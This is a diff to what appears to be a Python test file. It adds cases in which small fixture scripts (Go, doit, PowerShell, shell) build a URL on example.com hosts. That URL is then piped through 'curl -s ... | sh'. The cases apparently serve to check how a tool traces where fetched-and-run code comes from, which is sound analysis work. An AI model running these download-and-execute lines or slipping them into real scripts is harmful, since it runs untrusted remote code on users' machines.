@@ -128,6 +128,8 @@ CASES: dict[str, tuple[str, dict[str, str]]] = {
     "where a remark of PowerShell ends": (PIPE, {
         "run.sh": "curl -s $(pwsh h.ps1) | sh\n", "h.ps1": "$u = 'https://one.example'\n<#\n«|#>»\n$u = 'https://two.example'\n#>\n$u\n",
     }),
+    "a program of Go in the folder": (PIPE, {"run.sh": "curl -s $(go run .) | sh\n", "main.go": 'package main\nfunc main() { println("https://«one|two».example") }\n'}),
+    "what doit is told": (PIPE, {"run.sh": "curl -s $(doit -f url) | sh\n", "dodo.py": "print('https://«one|two».example')\n"}),
     "a text of several lines of a shell": (PIPE, {"run.sh": "curl -s $(bash h.sh) | sh\n", "h.sh": "L='\n# https://«one|two».example/\n'\necho \"$L\" | cut -c3-\n"}),
     "settings read as a text": (ENVIRONMENT, {"a.py": SENDS.format("open('c.yaml').read().split('#')[1]"), "c.yaml": "a: 1\n#https://«one|two».example/\n"}),
     "a variable of one letter": (ENVIRONMENT, {"a.py": SENDS.format("os.environ['U']"), ".env": "U=https://«one|two».example/\n"}),
